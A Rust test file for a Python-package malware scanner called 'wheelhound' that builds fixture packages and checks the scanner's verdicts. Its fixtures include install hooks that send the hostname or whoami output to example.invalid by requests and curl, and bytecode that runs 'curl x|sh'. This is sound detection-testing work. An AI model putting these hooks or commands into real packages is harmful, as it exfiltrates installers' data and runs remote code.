//! Cross-file context end to end: code that another file of the package runs while installing
//! or importing takes that file's context. Packages are written to a temporary directory.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
#![allow(clippy::indexing_slicing)]

use std::path::Path;

use assert_cmd::Command;
use serde_json::Value;

fn write_package(root: &Path, files: &[(&str, &str)]) {
    for (path, text) in files {
        let path = root.join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
}

fn scan(root: &Path) -> Value {
    let output = Command::new(env!("CARGO_BIN_EXE_wheelhound"))
        .args(["scan", "--format", "jsonl", "--fail-on", "never"])
        .arg(root)
        .output()
        .unwrap();
    serde_json::from_slice(&output.stdout).unwrap()
}

const SENDER: &str = "import socket, requests\n\ndef send(url):\n    host = socket.gethostname()\n    requests.post(url, json={'h': host})\n\ndef main():\n    send('https://example.invalid/collect')\n\nif __name__ == '__main__':\n    main()\n";

#[test]
fn module_run_with_python_m_from_an_install_hook_runs_at_install() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("pkg-0.1");
    write_package(
        &root,
        &[
            (
                "setup.py",
                "import sys, subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass Hook(install):\n    def run(self):\n        install.run(self)\n        subprocess.run([sys.executable, '-m', 'pkg.report'])\n\nsetup(name='pkg', cmdclass={'install': Hook})\n",
            ),
            ("pkg/__init__.py", ""),
            ("pkg/report.py", SENDER),
        ],
    );
    let report = scan(&root);
    let file = report["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"].as_str().unwrap().ends_with("pkg/report.py"))
        .unwrap();
    let contexts: Vec<&str> = file["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["context"].as_str().unwrap())
        .collect();
    assert!(contexts.contains(&"install"), "{contexts:?}");
}

#[test]
fn the_same_module_alone_runs_when_called() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("pkg-0.1");
    write_package(
        &root,
        &[
            (
                "setup.py",
                "from setuptools import setup\nsetup(name='pkg')\n",
            ),
            ("pkg/__init__.py", ""),
            ("pkg/report.py", SENDER),
        ],
    );
    let report = scan(&root);
    for file in report["files"].as_array().unwrap() {
        for evidence in file["evidence"].as_array().unwrap() {
            assert_ne!(evidence["context"], "install", "{evidence}");
        }
    }
}

#[test]
fn helper_called_from_an_install_command_runs_at_install() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("pkg-0.1");
    write_package(
        &root,
        &[
            (
                "setup.py",
                "from setuptools import setup\nfrom setuptools.command.install import install\nfrom pre_install import pre_install\n\nclass Hook(install):\n    def run(self):\n        pre_install()\n        install.run(self)\n\nsetup(name='pkg', cmdclass={'install': Hook})\n",
            ),
            (
                "pre_install.py",
                "import subprocess\n\ndef pre_install():\n    subprocess.run('curl -d \"$(whoami)\" https://example.invalid', shell=True)\n",
            ),
        ],
    );
    let report = scan(&root);
    assert_eq!(report["verdict"], "malicious", "{report}");
    let top = &report["files"][0];
    assert!(top["path"].as_str().unwrap().ends_with("pre_install.py"));
}

/// A CPython 3.11 `.pyc` of `import os\nos.system("curl x|sh")`, written for this test.
fn pyc() -> Vec<u8> {
    let hex = "630000000000000000000000000300000000000000f32e0000009700640064016c005a00020065006a0100000000000000006402a6010000ab0100000000000000000100640153002903e9000000004e7a096375726c20787c73682902da026f73da0673797374656da900f300000000da0166fa083c6d6f64756c653e7207000000010000007326000000f003010101d80009800980098009d8000980028409882bd10016d40016d00016d00016d000167205000000";
    let mut data = vec![0xa7, 0x0d, b'\r', b'\n'];
    data.extend([0u8; 12]);
    data.extend(
        hex.as_bytes()
            .chunks(2)
            .map(|pair| u8::from_str_radix(std::str::from_utf8(pair).unwrap(), 16).unwrap()),
    );
    data
}

#[test]
fn pyc_without_source_counts_and_beside_source_does_not() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("pkg-0.1");
    write_package(&root, &[("pkg/__init__.py", "")]);
    std::fs::create_dir_all(root.join("pkg/__pycache__")).unwrap();
    std::fs::write(root.join("pkg/__pycache__/__init__.cpython-311.pyc"), pyc()).unwrap();
    std::fs::write(root.join("pkg/__pycache__/tool.cpython-311.pyc"), pyc()).unwrap();
    let report = scan(&root);
    let files = report["files"].as_array().unwrap();
    let bytecode_only = |name: &str| {
        let file = files
            .iter()
            .find(|f| f["path"].as_str().unwrap().ends_with(name))
            .unwrap();
        file["evidence"].as_array().unwrap().iter().any(|e| {
            e["message"]
                .as_str()
                .unwrap()
                .contains("without the source")
        })
    };
    assert!(bytecode_only("tool.cpython-311.pyc"));
    assert!(!bytecode_only("__init__.cpython-311.pyc"));
    assert_eq!(report["verdict"], "malicious");
}
